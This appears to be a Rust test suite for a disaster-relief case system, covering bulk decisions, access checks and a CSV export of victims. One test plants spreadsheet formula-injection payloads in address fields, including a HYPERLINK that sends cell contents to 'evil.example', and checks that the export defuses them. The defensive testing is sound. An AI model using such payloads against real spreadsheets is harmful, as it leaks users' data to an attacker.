//! The bulk decision and the list of victims.

use actix_web::http::StatusCode;
use serde_json::{json, Value};

use crate::review::{all_members, inspected};
use crate::support::{day, distinct_household, spawn_app};
use relief::domain::role::Role;

#[actix_web::test]
async fn bulk_decides_by_the_rules_and_isolates_failures() {
    let app = spawn_app().await;
    let (admin, event_id) = app.open_event("BLG2020").await;
    let (_, officer) = app.user_with_token("officer", Role::Officer).await;

    let clean = inspected(
        &app,
        &officer,
        &distinct_household(event_id, 1),
        "А-1",
        "loss_confirmed",
    )
    .await;
    let mut unregistered_body = distinct_household(event_id, 2);
    unregistered_body["members"][1]["registered_at_property"] = json!(false);
    let unregistered = inspected(&app, &officer, &unregistered_body, "А-2", "loss_confirmed").await;
    // Declared full, found partial on site.
    let partial = crate::review::inspected_with(
        &app,
        &officer,
        &distinct_household(event_id, 3),
        &crate::review::finding("А-3", "loss_confirmed", Some("partial")),
    )
    .await;
    let not_confirmed = inspected(
        &app,
        &officer,
        &distinct_household(event_id, 4),
        "А-4",
        "loss_not_confirmed",
    )
    .await;
    // The same household as `clean`, filed again: its people are recognised there.
    let twice = inspected(
        &app,
        &officer,
        &distinct_household(event_id, 1),
        "А-5",
        "loss_confirmed",
    )
    .await;
    // The officer confirms the matches between the two: one household.
    let confirmed = app
        .resolve_matches(
            &officer,
            event_id,
            twice["id"].as_i64().unwrap(),
            "confirmed",
        )
        .await;
    assert_eq!(
        confirmed.len(),
        3,
        "both members match, and so does the plot"
    );
    let waiting = app
        .file(&distinct_household(event_id, 6), &officer)
        .await
        .body["id"]
        .as_i64()
        .unwrap();
    let mut other_event = crate::support::event_body("OTHER");
    other_event["title"] = json!("Другое");
    let other_event_id = app
        .post("/api/v1/events", &other_event, Some(&admin))
        .await
        .body["id"]
        .as_i64()
        .unwrap();
    let foreign = app
        .file(&distinct_household(other_event_id, 7), &officer)
        .await
        .body["id"]
        .as_i64()
        .unwrap();

    let ids = json!([
        clean["id"],
        unregistered["id"],
        partial["id"],
        not_confirmed["id"],
        twice["id"],
        waiting,
        foreign
    ]);
    let response = app
        .post(
            &format!("/api/v1/events/{event_id}/decisions/bulk"),
            &json!({"protocol_number": "П-10", "decided_on": day(0), "application_ids": ids}),
            Some(&officer),
        )
        .await;
    assert_eq!(response.status, StatusCode::OK, "{}", response.body);
    assert_eq!(response.body["decided"], 4, "{}", response.body);
    assert_eq!(response.body["failed"], 3);
    let result = |id: &Value| {
        response.body["results"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| &r["application_id"] == id)
            .cloned()
            .unwrap()
    };
    assert_eq!(result(&clean["id"])["outcome"], "approved");
    assert_eq!(result(&unregistered["id"])["outcome"], "partially_approved");
    assert_eq!(result(&partial["id"])["outcome"], "rejected");
    assert_eq!(result(&twice["id"])["outcome"], "rejected");
    assert_eq!(
        result(&not_confirmed["id"])["error"]["code"],
        "inspection_not_confirmed"
    );
    assert_eq!(result(&json!(waiting))["error"]["code"], "invalid_state");
    assert_eq!(result(&json!(foreign))["error"]["code"], "not_found");

    for (application, index, reason) in [
        (&unregistered, 1, "not_registered_at_property"),
        (&partial, 0, "harvest_not_fully_lost"),
        (&twice, 0, "duplicate"),
    ] {
        let id = application["id"].as_i64().unwrap();
        let view = app
            .get(&format!("/api/v1/applications/{id}"), Some(&officer))
            .await;
        assert_eq!(
            view.body["members"][index]["decision"]["reason"], reason,
            "{}",
            view.body
        );
    }
    // A failed one is untouched and can still be decided on its own.
    let separately = app
        .post(
            &format!("/api/v1/applications/{}/decision", not_confirmed["id"]),
            &all_members(&not_confirmed, "refused", Some("inspection_not_confirmed")),
            Some(&officer),
        )
        .await;
    assert_eq!(separately.status, StatusCode::OK, "{}", separately.body);
}

#[actix_web::test]
async fn bulk_input_is_checked_and_staff_only() {
    let app = spawn_app().await;
    let (_, event_id) = app.open_event("BLG2020").await;
    let (_, officer) = app.user_with_token("officer", Role::Officer).await;
    let (_, resident) = app.user_with_token("resident", Role::Resident).await;
    let url = format!("/api/v1/events/{event_id}/decisions/bulk");
    let body = json!({"protocol_number": "П-1", "decided_on": day(0), "application_ids": [1]});
    app.post(&url, &body, Some(&resident))
        .await
        .assert_error(403, "forbidden");
    app.post(
        &url,
        &json!({"protocol_number": "П-1", "decided_on": day(0), "application_ids": []}),
        Some(&officer),
    )
    .await
    .assert_error(422, "validation_failed");
    app.post(
        "/api/v1/events/999999/decisions/bulk",
        &body,
        Some(&officer),
    )
    .await
    .assert_error(404, "not_found");
}

#[actix_web::test]
async fn the_most_ids_the_schema_allows_fit_in_the_body_limit() {
    let app = spawn_app().await;
    let (_, event_id) = app.open_event("BLG2020").await;
    let (_, officer) = app.user_with_token("officer", Role::Officer).await;
    let url = format!("/api/v1/events/{event_id}/decisions/bulk");
    // 10,000 ids of 20 characters each: the longest body the schema allows.
    let ids: Vec<i64> = (0..10_000).map(|n| i64::MIN + n).collect();
    let body = json!({"protocol_number": "П-1", "decided_on": day(0), "application_ids": ids});
    let answer = app.post(&url, &body, Some(&officer)).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
    assert_eq!(answer.body["failed"], 10_000, "{}", answer.body["decided"]);
    let mut one_more = body.clone();
    one_more["application_ids"] = json!((0..10_001).collect::<Vec<i64>>());
    app.post(&url, &one_more, Some(&officer))
        .await
        .assert_error(422, "validation_failed");
}

#[actix_web::test]
async fn the_victims_list_has_recognised_people_as_json_and_csv() {
    let app = spawn_app().await;
    let (_, event_id) = app.open_event("BLG2020").await;
    let (_, officer) = app.user_with_token("officer", Role::Officer).await;
    let mut body = distinct_household(event_id, 1);
    body["members"][0]["last_name"] = json!("Ёлкина");
    body["members"][0]["first_name"] = json!("Анна");
    body["property_address"] = json!("ул. Зейская; д. 1");
    body["members"][1]["registered_at_property"] = json!(false);
    let application = inspected(&app, &officer, &body, "А-1", "loss_confirmed").await;
    let url = format!("/api/v1/applications/{}/decision", application["id"]);
    let members = application["members"].as_array().unwrap();
    let decision = json!({"protocol_number": "П-1", "decided_on": day(0), "members": [
        {"member_id": members[0]["id"], "outcome": "recognized"},
        {"member_id": members[1]["id"], "outcome": "refused", "reason": "not_registered_at_property"},
    ]});
    assert_eq!(
        app.post(&url, &decision, Some(&officer)).await.status,
        StatusCode::OK
    );

    let list = app
        .get(
            &format!("/api/v1/events/{event_id}/victims"),
            Some(&officer),
        )
        .await;
    assert_eq!(list.status, StatusCode::OK, "{}", list.body);
    assert_eq!(list.body["total"], 1);
    let victim = &list.body["items"][0];
    assert_eq!(victim["full_name"], "Ёлкина Анна Петровна");
    assert_eq!(victim["birth_date"], "1960-01-02");
    assert_eq!(victim["document"], "паспорт РФ 1005 100001");
    assert_eq!(victim["registration_address"], "ул. Зейская; д. 1");
    assert_eq!(victim["registration_number"], "BLG2020-00001");
    // No norms yet: nothing is due.
    assert_eq!(victim["aid_due"], json!([]));

    let request = crate::support::with_token(
        actix_web::test::TestRequest::get()
            .uri(&format!("/api/v1/events/{event_id}/victims?format=csv")),
        Some(&officer),
    );
    let response = actix_web::test::call_service(&app.service, request.to_request()).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        response.headers().get("content-type").unwrap(),
        "text/csv; charset=utf-8"
    );
    let bytes = actix_web::test::read_body(response).await;
    assert!(bytes.starts_with("\u{feff}".as_bytes()), "a BOM for Excel");
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(
        lines[0],
        "№;ФИО;Дата рождения;Документ;Адрес регистрации;Номер заявления;Положено к выдаче"
    );
    assert_eq!(
        lines[1],
        "1;Ёлкина Анна Петровна;02.01.1960;паспорт РФ 1005 100001;\"ул. Зейская; д. 1\";BLG2020-00001;"
    );
    assert_eq!(lines.len(), 2);

    let (_, resident) = app.user_with_token("resident", Role::Resident).await;
    app.get(
        &format!("/api/v1/events/{event_id}/victims"),
        Some(&resident),
    )
    .await
    .assert_error(403, "forbidden");
}

#[actix_web::test]
async fn a_formula_typed_into_an_address_reaches_the_victims_csv_as_text() {
    let app = spawn_app().await;
    let (_, event_id) = app.open_event("BLG2020").await;
    let (_, officer) = app.user_with_token("officer", Role::Officer).await;
    // Addresses are stored trimmed, so a tab or CR before a formula is
    // gone before it reaches the file; the writer's own test covers them.
    let starts = ['=', '+', '-', '@'];
    for (n, start) in (1..).zip(starts) {
        let mut body = distinct_household(event_id, n);
        let address = format!("{start}HYPERLINK(\"http://evil.example/?\"&A1;\"Ленина {n}\")");
        body["property_address"] = json!(address);
        body["members"] = json!([body["members"][0].clone()]);
        let application =
            inspected(&app, &officer, &body, &format!("А-{n}"), "loss_confirmed").await;
        let url = format!("/api/v1/applications/{}/decision", application["id"]);
        let decided = app
            .post(
                &url,
                &all_members(&application, "recognized", None),
                Some(&officer),
            )
            .await;
        assert_eq!(decided.status, StatusCode::OK, "{}", decided.body);
    }
    let (_, _, bytes) = app
        .get_bytes(
            &format!("/api/v1/events/{event_id}/victims?format=csv"),
            Some(&officer),
        )
        .await;
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let mut reader = ::csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let addresses: Vec<String> = reader
        .records()
        .map(|r| r.expect("a CSV record")[4].to_owned())
        .collect();
    assert_eq!(addresses.len(), starts.len(), "{text}");
    for address in &addresses {
        assert!(address.starts_with('\''), "defused: {address:?}");
        assert!(address.contains("HYPERLINK"), "kept whole: {address:?}");
    }
}

/// `require_residence` (on by default) holds in both paths alike: a member
/// who does not live at the property cannot be recognised singly (422 with
/// the rule's name) and is refused as `not_living_at_property` in bulk;
/// with the rule off, they are recognised.
#[actix_web::test]
async fn require_residence_holds_in_the_single_and_the_bulk_decision() {
    let app = spawn_app().await;
    let (admin, event_id) = app.open_event("BLG2020").await;
    let (_, officer) = app.user_with_token("officer", Role::Officer).await;
    let away = |n: u32| {
        let mut body = distinct_household(event_id, n);
        body["members"][1]["lives_at_property"] = json!(false);
        body
    };
    let single = inspected(&app, &officer, &away(1), "А-1", "loss_confirmed").await;
    let bulk = inspected(&app, &officer, &away(2), "А-2", "loss_confirmed").await;
    let url = format!("/api/v1/applications/{}/decision", single["id"]);
    let refused = app
        .post(
            &url,
            &all_members(&single, "recognized", None),
            Some(&officer),
        )
        .await;
    refused.assert_error(422, "validation_failed");
    assert_eq!(
        refused.body["error"]["fields"]["members"]["1"][0]["code"],
        "require_residence"
    );
    let answer = app
        .post(
            &format!("/api/v1/events/{event_id}/decisions/bulk"),
            &json!({"protocol_number": "П-3", "decided_on": day(0), "application_ids": [bulk["id"]]}),
            Some(&officer),
        )
        .await;
    assert_eq!(
        answer.body["results"][0]["outcome"], "partially_approved",
        "{}",
        answer.body
    );
    let view = app
        .get(
            &format!("/api/v1/applications/{}", bulk["id"]),
            Some(&officer),
        )
        .await;
    assert_eq!(
        view.body["members"][1]["decision"]["reason"],
        "not_living_at_property"
    );

    let relaxed = app
        .patch(
            &format!("/api/v1/events/{event_id}"),
            &json!({"require_residence": false}),
            Some(&admin),
        )
        .await;
    assert_eq!(relaxed.body["require_residence"], false, "{}", relaxed.body);
    let decided = app
        .post(
            &url,
            &all_members(&single, "recognized", None),
            Some(&officer),
        )
        .await;
    assert_eq!(decided.status, StatusCode::OK, "{}", decided.body);
    assert_eq!(decided.body["outcome"], "approved");
}
